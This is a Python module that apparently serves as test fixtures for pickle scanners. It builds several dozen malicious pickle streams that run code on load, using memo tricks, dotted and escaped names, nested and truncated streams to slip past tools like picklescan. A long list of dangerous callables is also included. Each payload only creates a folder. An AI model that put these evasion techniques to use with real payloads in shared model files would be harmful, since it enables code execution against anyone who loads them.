"""Pickles that run something when they are loaded, one for each way known from the literature.

Each makes a folder, so that a test can tell whether it ran. Sources: the advisories of picklescan,
modelscan and fickling, "Sour Pickles" (2011), the broken streams of "nullifAI" (2025), and the
source of CPython's unpickler.
"""

from __future__ import annotations

import pickle
import struct
from typing import NamedTuple


class Attack(NamedTuple):
    """A pickle, and whether `pickle.load` until the end of the file makes the folder."""

    data: bytes
    fires: bool = True


def text(value: str) -> bytes:
    """A short text of protocol 4."""
    raw = value.encode("utf-8", "surrogatepass")
    return b"\x8c" + bytes([len(raw)]) + raw


def old(value: str) -> bytes:
    """A text of protocol 0."""
    return b"V" + value.encode("raw-unicode-escape") + b"\n"


def line(module: str, name: str) -> bytes:
    """A name in two lines, as GLOBAL and INST have it."""
    return f"{module}\n{name}\n".encode()


def named(module: str, name: str) -> bytes:
    """A name from the stack."""
    return text(module) + text(name) + b"\x93"


def attacks(folder: str) -> dict[str, Attack]:
    """Every attack by its name; each makes the folder."""
    os_mkdir = b"c" + line("os", "mkdir")
    called = os_mkdir + b"(" + old(folder) + b"tR"
    path = text(folder)
    inner = called + b"."
    call4 = named("os", "mkdir") + path + b"\x85R"
    found = {
        # every opcode that calls
        "global-reduce": called + b".",
        "inst": b"(" + old(folder) + b"i" + line("os", "mkdir") + b".",
        "obj": b"(" + os_mkdir + old(folder) + b"o.",
        "stack-global": b"\x80\x04" + call4 + b".",
        "tuple2": b"\x80\x02" + os_mkdir + old(folder) + b"I511\n\x86R.",
        "tuple3": b"\x80\x04"
        + named("builtins", "exec")
        + text(f"__import__('os').mkdir({folder!r})")
        + b"}}\x87R.",
        "list-as-arguments": b"\x80\x03" + b"c" + line("functools", "reduce")
        + os_mkdir + b"]" + old(folder) + b"aI511\na\x86R.",
        "build": b"\x80\x02c" + line("argparse", "Namespace") + b")\x81}"
        + old("__setstate__") + os_mkdir + b"sb" + old(folder) + b"b.",
        "newobj": b"\x80\x02c" + line("subprocess", "Popen") + b")\x81.",
        "newobj-ex": b"\x80\x04" + named("subprocess", "Popen") + b")}\x92.",
        "python-2-names": b"c" + line("__builtin__", "eval") + b"(" + old(
            f"__import__('os').mkdir({folder!r})"
        ) + b"tR.",
        "posix": b"c" + line("posix", "mkdir") + b"(" + old(folder) + b"tR.",
        # how the name comes about
        "memo-crossed": old("os") + b"p2\n0" + old("mkdir") + b"p3\n0" + old("torch") + b"p0\n0"
        + old("LongStorage") + b"p1\n0g2\ng3\n\x93(" + old(folder) + b"tR.",
        "memo-binary": b"\x80\x04" + text("os") + b"q\x050" + text("mkdir") + b"r\x07\0\0\0" + b"0"
        + b"h\x05j\x07\0\0\0\x93" + path + b"\x85R.",
        "memo-overwritten": b"\x80\x04" + text("collections") + b"\x940" + text("os") + b"q\x000"
        + b"h\x00" + text("mkdir") + b"\x93" + path + b"\x85R.",
        "memo-huge-index": b"\x80\x04" + text("os") + b"p77\n0g77\n" + text("mkdir") + b"\x93"
        + path + b"\x85R.",
        "dup-and-pop": b"\x80\x04" + text("os") + b"20" + text("mkdir") + b"20\x93" + path
        + b"\x85R.",
        "pop-mark": b"\x80\x04" + text("os") + b"(" + text("collections") + b"1" + text("mkdir")
        + b"\x93" + path + b"\x85R.",
        "pop-of-a-mark": b"\x80\x04" + text("os") + b"(0" + text("mkdir") + b"\x93" + path
        + b"\x85R.",
        "name-made-while-loading": b"\x80\x04" + named("builtins", "str") + b"C\x02os"
        + text("ascii") + b"\x86R" + text("mkdir") + b"\x93" + path + b"\x85R.",
        "dotted-name": b"\x80\x04" + named("argparse", "_os.mkdir") + path + b"\x85R.",
        "dotted-below-a-trusted-module": b"\x80\x04" + named("collections", "_sys.modules.get")
        + text("os") + b"\x85R0" + call4 + b".",
        "through-an-alias": b"\x80\x04" + named("shutil", "os.mkdir") + path + b"\x85R.",
        "utf-8-in-a-name": b"c" + b"collections\nOrderedDict\n0ccollections\nOrderedDict\n0"
        + b"Vgr\xfcn\n0" + called + b".",
        "string-escapes": b"\x80\x04S'o\\x73'\nS'mk\\x64ir'\n\x93" + path + b"\x85R.",
        "unicode-escapes": b"V\\u006fs\nV\\u006dkdir\n\x93(" + old(folder) + b"tR.",
        "binstring": b"\x80\x04T\x02\0\0\0osU\x05mkdir\x93" + path + b"\x85R.",
        "unicode-8": b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"os" + text("mkdir") + b"\x93" + path
        + b"\x85R.",
        # what is done with what came of it
        "result-dropped": called + b"0N.",
        "result-called": b"c" + line("operator", "methodcaller") + b"(" + old("mkdir") + old(folder)
        + b"tR(c" + line("builtins", "__import__") + b"(" + old("os") + b"tRtR.",
        "attrgetter": b"\x80\x04" + named("operator", "attrgetter") + text("mkdir") + b"\x85R"
        + named("builtins", "__import__") + text("os") + b"\x85R\x85R" + path + b"\x85R.",
        "getattr": b"\x80\x04" + named("builtins", "getattr") + named("builtins", "__import__")
        + text("os") + b"\x85R" + text("mkdir") + b"\x86R" + path + b"\x85R.",
        "partial": b"\x80\x04" + named("functools", "partial") + named("os", "mkdir") + path
        + b"\x86R)R.",
        "map": b"\x80\x04" + named("builtins", "list") + named("builtins", "map")
        + named("os", "mkdir") + b"]" + path + b"a\x86R\x85R.",
        "import-module": b"\x80\x04" + named("importlib", "import_module") + text("os") + b"\x85R0"
        + call4 + b".",
        "resolve-name": b"\x80\x04" + named("pkgutil", "resolve_name") + text("os:mkdir") + b"\x85R"
        + path + b"\x85R.",
        "runpy": b"\x80\x04" + named("runpy", "_run_code") + text(
            f"import os; os.mkdir({folder!r})"
        ) + b"}\x86R.",
        "nested": b"\x80\x04" + named("pickle", "loads") + b"B" + struct.pack("<I", len(inner))
        + inner + b"\x85R.",
        "nested-bytes-8": b"\x80\x04" + named("_pickle", "loads") + b"\x8e"
        + struct.pack("<Q", len(inner)) + inner + b"\x85R.",
        "nested-bytearray": b"\x80\x05" + named("_pickle", "loads") + b"\x96"
        + struct.pack("<Q", len(inner)) + inner + b"\x85R.",
        # streams that tools refuse and unpicklers run
        "no-stop": called,
        "cut-off": called + b"X\xff\0\0",
        "no-opcode-behind": called + b"\xff\xfe\x00",
        "stack-underflow-behind": called + b"000000.",
        "hexadecimal-int": b"I0x10\n0" + called + b".",
        "odd-long": b"L5\n0" + called + b".",
        "odd-float": b"F1e3\n0" + called + b".",
        "frame-of-nothing": b"\x80\x04\x95\0\0\0\0\0\0\0\0" + call4 + b".",
        "several-protocols": b"\x80\x02\x80\x04\x80\x00" + called + b".",
        "second-pickle": pickle.dumps({"a": 1}) + called + b".",
        "third-pickle": pickle.dumps([1]) + pickle.dumps("x", 0) + called + b".",
        "unused-values": pickle.dumps(list(range(3000)), 2)[:-1] + b"0" + called + b".",
        "blank-lines-in-text": b"V\n0V \n0" + called + b".",
        # what only some loaders run
        "extension-1": b"\x80\x02\x82\x01" + old(folder) + b"\x85R.",
        "extension-2": b"\x80\x02\x83\x01\x00" + old(folder) + b"\x85R.",
        "extension-4": b"\x80\x02\x84\x01\0\0\0" + old(folder) + b"\x85R.",
        "persistent": b"\x80\x02" + os_mkdir + b"Q" + old(folder) + b"\x85R.",
        "name-of-another-pack": b"\x80\x02c" + line("some_pack.nodes", "run") + b")R.",
        "build-on-a-class": b"\x80\x02c" + line("torch", "Tensor") + b"}" + old("__new__")
        + os_mkdir + b"sb.",
        "trusted-function-that-calls": b"\x80\x02c" + line("torch._tensor", "_rebuild_from_type_v2")
        + b"(c" + line("some_pack", "run") + b"c" + line("torch", "Tensor") + b")}tR.",
        "many-arguments": b"\x80\x02c" + line("torch._tensor", "_rebuild_from_type_v2") + b"("
        + b"N" * 40 + b"c" + line("some_pack", "run") + b"tR.",
        "deep-arguments": b"\x80\x02c" + line("torch._tensor", "_rebuild_from_type_v2")
        + b"c" + line("some_pack", "run") + b"\x85" * 50 + b"R.",
    }  # fmt: skip
    silent = {
        "newobj",
        "newobj-ex",
        "name-of-another-pack",
        "build-on-a-class",
        "trusted-function-that-calls",
        "many-arguments",
        "deep-arguments",
        "extension-1",
        "extension-2",
        "extension-4",
        "persistent",
    }
    return {name: Attack(data, name not in silent) for name, data in found.items()}


_CALLABLES = """
__builtin__.apply __builtin__.execfile _io.FileIO _io.open _pickle.load aiohttp.ClientSession
antigravity.geohash asyncio.unix_events._UnixSubprocessTransport._start bdb.Bdb.run
builtins.breakpoint builtins.compile builtins.delattr builtins.dir builtins.eval builtins.exec
builtins.globals builtins.hasattr builtins.input builtins.map builtins.open builtins.setattr
builtins.vars cProfile.run cProfile.runctx cloudpickle.loads code.InteractiveInterpreter.runcode
codeop.compile_command codecs.open commands.getoutput compileall.compile_file ctypes.CDLL
dill.loads distutils.file_util.write_file doctest.debug_script ensurepip._run_pip
fileinput.FileInput functools.partial gzip.open http.client.HTTPSConnection
httplib.HTTPSConnection idlelib.autocomplete.AutoComplete.fetch_completions
idlelib.calltip.Calltip.fetch_tip idlelib.debugobj.ObjectTreeItem.SetText
idlelib.pyshell.ModifiedInterpreter.runcode idlelib.run.Executive.runcode imp.load_source
importlib.import_module io.open joblib.load lib2to3.pgen2.grammar.Grammar.loads
lib2to3.pgen2.pgen.ParserGenerator.make_label linecache.getlines logging.config.listen
marshal.loads mmap.mmap multiprocessing.util.spawnv_passfds nt.system
numpy.f2py.crackfortran.getlincoef numpy.load numpy.testing._private.utils.runstring
numpy.ctypeslib.load_library operator.attrgetter operator.itemgetter operator.methodcaller
os.execv os.popen os.spawnl os.system pandas.read_pickle pathlib.Path.write_text pdb.Pdb.run
pickle.Unpickler pickle.loads pip.main pip._internal.main pipes.Template.open
pkgutil.resolve_name platform.popen posix.system profile.Profile.run pty.spawn
py_compile.compile pydoc.locate pydoc.pipepager requests.api.get runpy.run_path runpy._run_code
shelve.open shutil.rmtree signal.signal site.main smtplib.SMTP socket.create_connection
sqlite3.connect ssl.get_server_certificate subprocess.Popen subprocess.check_output sys.exit
sys.setprofile tarfile.open tempfile.mktemp test.support.script_helper.assert_python_ok
threading.Thread timeit.timeit torch._dynamo.guards.GuardBuilder.get
torch._inductor.codecache.compile_file
torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression torch.hub.load
torch.jit.unsupported_tensor_ops.execWrapper torch.load torch.package.PackageImporter
torch.serialization.load torch.storage._load_from_bytes
torch.utils._config_module.ConfigModule.load_config torch.utils.bottleneck.__main__.run_cprofile
torch.utils.collect_env.run torch.utils.cpp_extension.load
torch.utils.data.datapipes.utils.decoder.basichandlers trace.Trace.run turtle.write
types.CodeType types.FunctionType urllib.request.urlopen uu.decode venv.create webbrowser.open
xmlrpc.client.ServerProxy zipimport.zipimporter
"""
CALLABLES = _CALLABLES.split()
"""What the literature calls to get out of a pickle; the module is all but what is in capitals."""


def split(dotted: str) -> tuple[str, str]:
    """Module and name of a callable: the name begins with a class, or is the last part."""
    parts = dotted.split(".")
    at = next((i for i, part in enumerate(parts) if part[:1].isupper() and i), len(parts) - 1)
    return ".".join(parts[:at]), ".".join(parts[at:])
